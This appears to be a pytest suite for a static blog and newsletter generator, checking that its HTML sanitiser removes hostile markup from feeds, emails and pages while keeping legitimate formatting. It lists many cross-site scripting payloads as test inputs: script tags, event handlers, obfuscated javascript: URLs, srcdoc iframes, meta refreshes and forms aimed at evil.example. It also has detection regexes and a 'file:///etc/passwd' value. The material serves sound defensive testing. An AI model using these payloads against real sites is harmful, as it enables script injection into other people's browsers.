"""The one allowlist (`markup.sanitize`, nh3): hostile HTML out of feeds and email (and out of
pages with `[content] sanitize_pages`), what posts legitimately use kept, front matter escaped
or sanitised, and the same bytes under any PYTHONHASHSEED."""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image

from email_sites import NEWSLETTER_TOML, one_post
from feed_validation import check_feed, check_json_feed
from review_press import feeds, markup
from review_press.build import BuildOptions, build
from review_press.config import load_config
from review_press.content import load_posts
from review_press.edition import lint, make_edition
from review_press.errors import PressError
from review_press.theme import default_theme_dir
from sites import post_text, write_site

NOW = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)
BASE = "https://example.org/blog/"
ATOM = "{http://www.w3.org/2005/Atom}"
CONTENT = "{http://purl.org/rss/1.0/modules/content/}encoded"

# Every hostile construct of the issue, each carrying a token (x-...) that must vanish with it.
HOSTILE = """\
Intro with *emphasis*, a [link](https://example.com/page) and <img src="https://example.org/x.png" onerror="alert('x-onerror')" alt="x" width="10"> inline.

<script>alert("x-script")</script>

<p onclick="alert('x-click')">Click me</p>

A <a href="javascript:alert('x-js')">js link</a> and a <a href=" &#106;ava&#x09;script:alert('x-entity')">hidden one</a>.

<form action="https://evil.example/x-form"><input name="q"><button>x-button</button></form>

<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Trailer"></iframe>

<iframe src="https://evil.example/x-frame"></iframe>

<iframe srcdoc="<script>alert('x-srcdoc')</script>"></iframe>

<object data="https://evil.example/x-object.swf"></object>

<embed src="https://evil.example/x-embed.swf">

<meta http-equiv="refresh" content="0;url=https://evil.example/x-refresh">

<style>body { color: #bada55 }</style>

<svg onload="alert('x-svg')"><circle r="1"></circle></svg>

## Legit heading

| Show | Score |
|:--|--:|
| Run Away | 4 |

The plot twists.[^1]

```python
print("score")
```

<figure><img src="/images/still.jpg" alt="A still" width="640" height="360"><figcaption>The opening scene</figcaption></figure>

<details><summary>Spoiler</summary>It was the butler.</details>

> A quote from the show.

~~struck~~ <s>gone</s> <del>deleted</del> E = mc<sup>2</sup> H<sub>2</sub>O

[^1]: Counted by hand.
"""
# What the author wrote, as pages keep it by default.
HOSTILE_AS_WRITTEN = (
    '<script>alert("x-script")</script>',
    "onerror=\"alert('x-onerror')\"",
    "<p onclick=\"alert('x-click')\">Click me</p>",
    "href=\"javascript:alert('x-js')\"",
    '<form action="https://evil.example/x-form"><input name="q"><button>x-button</button></form>',
    '<iframe src="https://evil.example/x-frame"></iframe>',
    '<object data="https://evil.example/x-object.swf"></object>',
    '<embed src="https://evil.example/x-embed.swf">',
    '<meta http-equiv="refresh"',
    "<style>body { color: #bada55 }</style>",
    "<svg onload=\"alert('x-svg')\">",
)
# None of these may appear in sanitised HTML (feeds, the email's body, sanitised pages) or in the email's text.
GONE = {
    "an active or form tag": re.compile(r"<\s*(script|form|input|button|iframe|object|embed|meta|style|svg|noscript)\b", re.IGNORECASE),
    "an event handler": re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE),
    "a javascript: URL": re.compile(r"java\s*script\s*:", re.IGNORECASE),
    "a hostile construct's token": re.compile(r"x-(onerror|script|click|js|entity|form|button|srcdoc|refresh|svg)\b|bada55|alert\("),
}
# What posts legitimately use, as a regex over sanitised HTML (attributes the email adds are allowed for).
KEPT = {
    "heading with id": r'<h2 id="legit-heading"[^>]*>Legit heading</h2>',
    "aligned table": r"<th\b[^>]*text-align:\s*right[^>]*>Score</th>",
    "footnote reference": r'<sup class="footnote-ref"[^>]*><a href="[^"]*#fn1" id="fnref1"[^>]*>\[1\]</a></sup>',
    "footnote with backref": r'<li id="fn1" class="footnote-item"[^>]*>.*?<a href="[^"]*#fnref1" class="footnote-backref"',
    "highlighted code": r'<pre class="highlight"[^>]*><code class="language-python"[^>]*><span class="nb"[^>]*>print</span>',
    "image with width, height, alt": r'<img src="[^"]*/images/still\.jpg" alt="A still" width="\d+" height="\d+"',
    "figure and caption": r"<figure[^>]*>\s*<img[^>]*>\s*<figcaption[^>]*>The opening scene</figcaption>\s*</figure>",
    "blockquote": r"<blockquote[^>]*>\s*<p[^>]*>A quote from the show\.</p>\s*</blockquote>",
    "strikethrough": r"<s[^>]*>struck</s> <s[^>]*>gone</s> <del[^>]*>deleted</del>",
    "sup and sub": r"mc<sup[^>]*>2</sup> H<sub[^>]*>2</sub>O",
}
# Players as sanitised HTML carries them.
AS_LINKS = {
    "YouTube as a linked thumbnail": r'<a href="https://www\.youtube\.com/watch\?v=dQw4w9WgXcQ"[^>]*><img src="https://img\.youtube\.com/vi/dQw4w9WgXcQ/hqdefault\.jpg"',
    "another iframe as a plain link": r'<a href="https://evil\.example/x-frame"[^>]*>▶ Open the embedded content',
    "an object as a plain link": r'<a href="https://evil\.example/x-object\.swf"[^>]*>▶ Open the embedded content',
}
DETAILS = r"<details[^>]*><summary[^>]*>Spoiler</summary>It was the butler\.</details>"


def assert_clean(html: str, where: str) -> None:
    for what, pattern in GONE.items():
        found = pattern.search(html)
        assert found is None, f"{what} in {where}: {found and html[max(0, found.start() - 80) : found.end() + 80]!r}"


def assert_kept(html: str, where: str, details: bool = True, players_as_links: bool = True) -> None:
    for what, pattern in (KEPT | ({"details": DETAILS} if details else {}) | (AS_LINKS if players_as_links else {})).items():
        assert re.search(pattern, html, re.DOTALL), f"{what} missing from {where}"


def hostile_site(root: Path, extra_toml: str = "") -> Path:
    """A newsletter site with the hostile post (tags Crime and TV) and a plain one."""
    posts = {
        "2026-03-01-hostile.md": post_text(title="Hostile", date="2026-03-01", body=HOSTILE, tags="[Crime, TV]"),
        "2026-02-01-plain.md": post_text(title="Plain", date="2026-02-01", body="Nothing to see.", tags="[Crime]"),
    }
    (root / "static/images").mkdir(parents=True, exist_ok=True)  # the still the hostile post shows: a build checks it is there
    Image.new("RGB", (640, 360), (90, 90, 90)).save(root / "static/images/still.jpg")
    return write_site(root, posts, NEWSLETTER_TOML + extra_toml)


def build_site(root: Path) -> Path:
    build(root, BuildOptions(now=NOW))
    return root / "out"


def prose(page: str) -> str:
    """The post's body on its page (the theme's own subscribe form is not the post's)."""
    return page.split('<div class="prose">', 1)[1].split("</article>", 1)[0]


def card(page: str, slug: str) -> str:
    """The card of post `slug` on a list page."""
    start = page.index(f'href="/blog/posts/{slug}/"')
    return page[page.rindex('<article class="card">', 0, start) : page.index("</article>", start)]


def feed_documents(out: Path) -> list[Path]:
    return sorted(p for p in out.rglob("*") if p.suffix in (".xml", ".json") and p.name != "sitemap.xml")


def feed_html(path: Path) -> list[str]:
    """Every HTML-bearing field of a feed document."""
    if path.suffix == ".json":
        return [item["content_html"] for item in json.loads(path.read_text("utf-8"))["items"]]
    root = etree.parse(path).getroot()
    if root.tag == f"{ATOM}feed":
        return [el.text or "" for tag in ("content", "summary") for el in root.iter(f"{ATOM}{tag}")]
    return [el.text or "" for item in root.iter("item") for el in (item.find("description"), item.find(CONTENT)) if el is not None]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The hostile site built twice: as is, and with `[content] sanitize_pages = true`."""
    base = tmp_path_factory.mktemp("sanitize")
    return {
        "default": build_site(hostile_site(base / "default")),
        "sanitized": build_site(hostile_site(base / "sanitized", "\n[content]\nsanitize_pages = true\n")),
    }


# --- the hostile post through every edition ------------------------------------------------


def test_pages_keep_the_author_s_html_by_default(built: dict[str, Path]) -> None:
    out = built["default"]
    body = prose((out / "posts/hostile/index.html").read_text("utf-8"))
    for construct in HOSTILE_AS_WRITTEN:
        assert construct in body, construct
    assert_kept(body, "the post page", players_as_links=False)
    assert '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Trailer"></iframe>' in body
    summary = card((out / "index.html").read_text("utf-8"), "hostile")
    assert "onerror=\"alert('x-onerror')\"" in summary  # the body's first paragraph, as written


def test_sanitize_pages_applies_the_allowlist_to_pages(built: dict[str, Path]) -> None:
    out = built["sanitized"]
    page = (out / "posts/hostile/index.html").read_text("utf-8")
    body = prose(page)
    assert_clean(body, "the sanitised post page")
    assert_kept(body, "the sanitised post page")
    assert '<div class="table-scroll"' in body  # the page's own wrapping still applies
    for list_page in ("index.html", "tags/crime/index.html", "tags/tv/index.html"):
        summary = card((out / list_page).read_text("utf-8"), "hostile")
        assert_clean(summary, f"the card on {list_page}")
        assert '<img src="https://example.org/x.png" alt="x" width="10">' in summary


def test_feeds_never_carry_the_hostile_constructs_and_validate(built: dict[str, Path]) -> None:
    for out in built.values():  # feeds are sanitised whatever sanitize_pages says
        documents = feed_documents(out)
        names = {p.relative_to(out).as_posix() for p in documents}
        assert {"feed.xml", "atom.xml", "feed.json", "tags/crime/feed.xml", "tags/crime/atom.xml", "tags/crime/feed.json"} <= names
        assert {"tags/tv/feed.xml", "tags/tv/atom.xml", "tags/tv/feed.json"} <= names
        for path in documents:
            rel = path.relative_to(out).as_posix()
            fields = feed_html(path)
            assert fields, rel
            for html in fields:
                assert_clean(html, rel)
            hostile = next(h for h in fields if "Legit heading" in h)  # full content
            assert_kept(hostile, rel)
            assert check_feed(rel, path.read_bytes(), feeds.canonical_uri(BASE + rel)) == [], rel


def test_the_email_html_and_text_never_carry_them_and_the_build_passes(built: dict[str, Path]) -> None:
    for out in built.values():
        html = (out / "email/hostile/index.html").read_text("utf-8")
        text = (out / "email/hostile/email.txt").read_text("utf-8")
        body = html.split("<body", 1)[1]  # the template's own <meta> and <style> live in <head>
        assert_clean(body, "the email HTML")
        assert_clean(text, "the email text")
        assert_kept(body, "the email HTML", details=False)
        assert re.search(r"<div[^>]*><p[^>]*>Spoiler</p>It was the butler\.</div>", body)  # <details> opened for email clients
        for line in (
            "Intro with _emphasis_, a link (https://example.com/page) and [Image: x] (https://example.org/x.png) inline.",
            "Click me",
            "A js link and a hidden one.",
            "Watch on YouTube: Trailer: https://www.youtube.com/watch?v=dQw4w9WgXcQ",
            "Open the embedded content (evil.example): https://evil.example/x-frame",
            "Legit heading\n-------------",
            "[1] Counted by hand.",
        ):
            assert " ".join(line.split()) in " ".join(text.split()), line  # the text is wrapped at 72


def test_the_email_lint_passes_a_post_with_a_script(tmp_path: Path) -> None:
    """The sanitiser removes the Twitter embed's <script> before the lint sees it."""
    tweet = (
        '<blockquote class="twitter-tweet"><p lang="en">A tweet.</p>&mdash; Someone '
        '<a href="https://twitter.com/someone/status/1">January 1, 2026</a></blockquote>\n'
        '<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>\n'
    )
    post, config, theme = one_post(tmp_path, f"Before.\n\n{tweet}\nAfter.")
    edition = make_edition(post, config, theme)
    assert lint(edition, post) == []
    assert "widgets.js" not in edition.html and "<script" not in edition.html
    assert re.search(r'<blockquote class="twitter-tweet"[^>]*>\s*<p lang="en"[^>]*>A tweet\.</p>', edition.html)
    assert "https://twitter.com/someone/status/1" in edition.text


def test_the_build_is_byte_identical_under_two_hash_seeds(tmp_path: Path) -> None:
    """The real CLI, in a subprocess, twice: every file in out/ has the same bytes."""
    outputs = []
    for seed in ("0", "4242"):
        root = hostile_site(tmp_path / f"seed-{seed}", "\n[content]\nsanitize_pages = true\n")
        env = {**os.environ, "PYTHONHASHSEED": seed}
        done = subprocess.run(
            [sys.executable, "-m", "review_press", "build", "--site", str(root)], env=env, capture_output=True, text=True, timeout=300
        )
        assert done.returncode == 0, done.stdout + done.stderr
        out = root / "out"
        outputs.append({p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()})
    first, second = outputs
    assert "email/hostile/index.html" in first and "tags/tv/feed.json" in first and "posts/hostile/index.html" in first
    assert first.keys() == second.keys()
    assert [name for name in first if first[name] != second[name]] == []


# --- the allowlist itself --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("<script>alert(1)</script><p>ok</p>", "<p>ok</p>"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>ok</p>", "<p>ok</p>"),
        ('<img src="a.png" onerror="alert(1)" alt="a">', '<img src="a.png" alt="a">'),
        ('<p onclick="a()" onmouseover="b()" class="c">t</p>', '<p class="c">t</p>'),
        ('<a href="javascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="JaVaScRiPt:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="java&#x09;script:alert(1)">x</a>', "<a>x</a>"),
        ('<a href=" &#106;avascript:alert(1)">x</a>', "<a>x</a>"),
        ('<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "<a>x</a>"),
        ('<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;" alt="d">', '<img alt="d">'),
        ('<form action="https://evil.example/"><input name="q"><button>Go</button></form>after', "after"),
        ('<iframe srcdoc="<script>alert(1)</script>"></iframe>after', "after"),
        ('<iframe src="javascript:alert(1)">fallback</iframe>after', "after"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">after', "after"),
        ('<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css">after', "after"),
        ("<style>p { color: red }</style>after", "after"),
        ('<svg onload="alert(1)"><circle r="1"></circle></svg>after', "after"),
        ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>after', "after"),
        ('<noscript><img src="x" onerror="alert(1)"></noscript>after', "after"),
        ("<template><script>alert(1)</script></template>after", "after"),
        ("<!-- <script>alert(1)</script> -->after", "after"),
        ('<p style="background:url(javascript:alert(1))">x</p>', "<p>x</p>"),
        (
            '<table><tr><td style="text-align: expression(alert(1))">x</td></tr></table>',
            "<table><tbody><tr><td>x</td></tr></tbody></table>",
        ),
        ('<a href="https://ok.example/" target="_blank" rel="noopener">ok</a>', '<a href="https://ok.example/" rel="noopener">ok</a>'),
        (
            '<a href="mailto:ada@example.org">mail</a> <a href="/rel/">rel</a>',
            '<a href="mailto:ada@example.org">mail</a> <a href="/rel/">rel</a>',
        ),
    ],
)
def test_sanitize_drops_what_is_not_on_the_allowlist(raw: str, expected: str) -> None:
    assert markup.sanitize(raw) == expected


def test_players_become_links_and_inline_ones_stay_inline() -> None:
    html = markup.sanitize(
        '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="Trailer"></iframe>\n'
        '<p>See <iframe src="//www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe> here.</p>\n'
        '<embed src="https://evil.example/a.swf"><p>after the embed</p>'
    )
    assert html == (
        '<div class="media"><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">'
        '<img src="https://img.youtube.com/vi/dQw4w9WgXcQ/hqdefault.jpg" alt="Watch on YouTube: Trailer" width="480" height="360"></a>'
        '<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">▶ Watch on YouTube: Trailer</a></p></div>\n'
        '<p>See <a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">'
        '<img src="https://img.youtube.com/vi/dQw4w9WgXcQ/hqdefault.jpg" alt="Watch the video on YouTube" width="480" height="360"></a> here.</p>\n'
        '<p class="media"><a href="https://evil.example/a.swf">▶ Open the embedded content (evil.example)</a></p><p>after the embed</p>'
    )


def test_legitimate_markdown_survives_and_sanitising_is_idempotent() -> None:
    html = markup.sanitize(markup.render(HOSTILE))
    assert_clean(html, "sanitize(render(HOSTILE))")
    assert_kept(html, "sanitize(render(HOSTILE))")
    assert markup.sanitize(html) == html
    plain = markup.render("# Title\n\n## Part one\n\nText with `code` and **bold**.\n\n1. one\n2. two\n\n---\n")
    assert markup.sanitize(plain) == plain.replace("<hr />", "<hr>")


@pytest.mark.parametrize(
    ("url", "scheme", "safe"),
    [
        ("/images/a.jpg", None, True),
        ("images/a.jpg", None, True),
        ("#fn1", None, True),
        ("//cdn.example.org/a.jpg", None, True),
        ("https://example.org/", "https", True),
        ("MAILTO:ada@example.org", "mailto", True),
        ("javascript:alert(1)", "javascript", False),
        (" java\tscript:alert(1)", "javascript", False),
        ("\x01javascript:alert(1)", "javascript", False),
        ("data:image/png;base64,xx", "data", False),
        ("vbscript:x", "vbscript", False),
    ],
)
def test_url_scheme_reads_urls_as_browsers_do(url: str, scheme: str | None, safe: bool) -> None:
    assert markup.url_scheme(url) == scheme
    assert markup.is_safe_url(url) is safe


def test_the_validator_helpers_flag_every_security_risk() -> None:
    """tests/feed_validation.py must catch each construct (or a clean feed would prove nothing), and
    the sanitised construct must pass."""
    cases = {
        "<script>alert(1)</script>": "SecurityRisk",
        '<script/src="https://evil.example/x.js"></script>': "SecurityRisk",
        '<p onclick="alert(1)">x</p>': "SecurityRiskAttr",
        '<img/onerror=alert(1) src="https://example.org/a.png">': "SecurityRiskAttr",
        '<a href="javascript:alert(1)">x</a>': "SecurityRisk",
        '<a href="java&#x09;script:alert(1)">x</a>': "SecurityRisk",
        '<iframe src="https://evil.example/f"></iframe>': "SecurityRisk",
        '<form action="https://evil.example/f"><input name="q"></form>': "SecurityRisk",
        '<embed src="https://evil.example/a.swf">': "SecurityRisk",
        '<object data="https://evil.example/a.swf"></object>': "SecurityRisk",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "SecurityRisk",
    }
    for construct, code in cases.items():
        found = {p.code for p in check_json_feed(_json_feed(construct))}
        assert code in found, (construct, found)
        cleaned = markup.absolute_urls(markup.sanitize(construct), BASE)
        assert not {c for c in (p.code for p in check_json_feed(_json_feed(cleaned))) if c.startswith(("Security", "Dangerous"))}, construct


def _json_feed(content_html: str) -> bytes:
    item = {"id": f"{BASE}posts/x/", "url": f"{BASE}posts/x/", "title": "X", "content_html": content_html}
    feed = {"version": "https://jsonfeed.org/version/1.1", "title": "T", "feed_url": f"{BASE}feed.json", "items": [item]}
    return json.dumps(feed).encode()


# --- front matter (issue 3) -------------------------------------------------------------------


def test_a_summary_is_inline_markdown_sanitised(tmp_path: Path) -> None:
    summary = "*Bleak* and [good](https://example.org/) <script>alert(1)</script><img src=x onerror=alert(2)> & true"
    post, config, _theme = one_post(tmp_path / "s", "Body.", summary=json.dumps(summary))
    assert post.summary_html == '<p><em>Bleak</em> and <a href="https://example.org/">good</a> <img src="x"> &amp; true</p>'
    assert post.summary_text == "Bleak and good & true"
    out = build_site(config.root)
    for page in ("index.html", "tags/index.html", "archive/index.html"):
        html = (out / page).read_text("utf-8")
        assert "alert(" not in html and "onerror" not in html, page
    assert '<div class="summary"><p><em>Bleak</em> and <a href="https://example.org/">good</a>' in (out / "index.html").read_text("utf-8")
    assert 'content="Bleak and good &amp; true"' in (out / "posts/letter/index.html").read_text("utf-8")  # meta description


def test_front_matter_fields_are_escaped_in_pages_feeds_and_email(tmp_path: Path) -> None:
    title = '<script>alert("t")</script> Title'
    root = write_site(
        tmp_path / "s",
        {
            "2026-02-03-x.md": post_text(
                title=title.replace('"', '\\"'),
                date="2026-02-03",
                subject="\"<img src=x onerror=alert('s')> Subject\"",
                author='"<b onmouseover=alert(1)>Ann</b>"',
                tags='["<i>Noir</i> & co"]',
                mood="\"<script>alert('meta')</script>\"",
                image="/images/cover.jpg",
            )
        },
        NEWSLETTER_TOML,
    )
    (root / "templates").mkdir()
    (root / "templates/post.html").write_text(
        (default_theme_dir() / "post.html")
        .read_text("utf-8")
        .replace("{% block content %}", '{% block content %}<p class="rating">{{ post.meta.mood }}</p>', 1),
        "utf-8",
    )
    out = build_site(root)
    for path in out.rglob("*.html"):
        html = path.read_text("utf-8")
        html = re.sub(r'<script type="application/ld\+json">.*?</script>', "", html, flags=re.S)  # JSON-LD: checked below
        assert not re.search(r"<(script|img src=x|b onmouseover|i>Noir)", html), path
    page = (out / "posts/x/index.html").read_text("utf-8")
    assert "&lt;script&gt;alert(&#34;t&#34;)&lt;/script&gt; Title" in page
    assert "By &lt;b onmouseover=alert(1)&gt;Ann&lt;/b&gt;" in page
    assert "&lt;i&gt;Noir&lt;/i&gt; &amp; co" in page
    assert '<p class="rating">&lt;script&gt;alert(&#39;meta&#39;)&lt;/script&gt;</p>' in page
    assert '<img class="post-image" src="https://example.org/blog/images/cover.jpg" alt="">' in page  # `/` is the site's root
    assert '<meta property="og:image" content="https://example.org/blog/images/cover.jpg">' in page
    ld = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.S).group(1)  # type: ignore[union-attr]
    assert "<" not in ld and ">" not in ld
    atom = etree.parse(out / "atom.xml").getroot().find(f"{ATOM}entry")
    assert atom.findtext(f"{ATOM}title") == title and atom.findtext(f"{ATOM}author/{ATOM}name") == "<b onmouseover=alert(1)>Ann</b>"
    assert [c.get("term") for c in atom.findall(f"{ATOM}category")] == ["<i>Noir</i> & co"]
    item = json.loads((out / "feed.json").read_text("utf-8"))["items"][0]
    assert item["title"] == title and item["image"] == "https://example.org/blog/images/cover.jpg"
    email = (out / "email/x/index.html").read_text("utf-8")
    assert "<title>&lt;img src=x onerror=alert('s')&gt; Subject</title>" in email


@pytest.mark.parametrize(
    "image",
    ["javascript:alert(1)", "JavaScript:alert(1)", "data:image/png;base64,iVBORw0KGgo=", "vbscript:x", "file:///etc/passwd", "https://"],
)
def test_an_image_that_is_not_a_relative_path_or_http_url_is_an_error_at_its_line(tmp_path: Path, image: str) -> None:
    root = write_site(tmp_path / "s", {"bad.md": post_text(title="Bad", tags="[a]", image=json.dumps(image))})
    config = load_config(root)
    with pytest.raises(PressError) as caught:
        load_posts(config, use_cache=False)
    [error] = getattr(caught.value, "errors", (caught.value,))
    assert error.path == root / "posts/bad.md" and error.line == 5  # ---, title, date, tags, image
    assert "'image' must be a relative path or an http(s) URL" in str(error) or "has no host" in str(error)
    assert "bad.md:5: " in str(error)


def test_an_image_with_a_hidden_control_character_is_an_error(tmp_path: Path) -> None:
    root = write_site(tmp_path / "s", {"bad.md": post_text(title="Bad", image='"java\\tscript:alert(1)"')})
    with pytest.raises(PressError, match=r"bad\.md:4: 'image' must not contain control characters"):
        load_posts(load_config(root), use_cache=False)


@pytest.mark.parametrize(
    "image", ["/images/a.jpg", "images/a.jpg", "https://cdn.example.org/a.jpg", "http://x.example/a.jpg", "//cdn.example.org/a.jpg"]
)
def test_relative_paths_and_http_urls_are_fine_images(tmp_path: Path, image: str) -> None:
    root = write_site(tmp_path / "s", {"ok.md": post_text(title="Ok", image=image)})
    (post,) = load_posts(load_config(root), use_cache=False)
    assert post.image == image


def test_no_default_template_marks_front_matter_safe() -> None:
    """Autoescape covers every front matter field; `|safe` is only for HTML the theme is given as HTML."""
    safe = set()
    for path in default_theme_dir().rglob("*.html"):
        safe |= {m.strip() for m in re.findall(r"\{\{([^}]*?)\|\s*safe\s*\}\}", path.read_text("utf-8"))}
    assert safe == {"body", "summary_html(post)"}
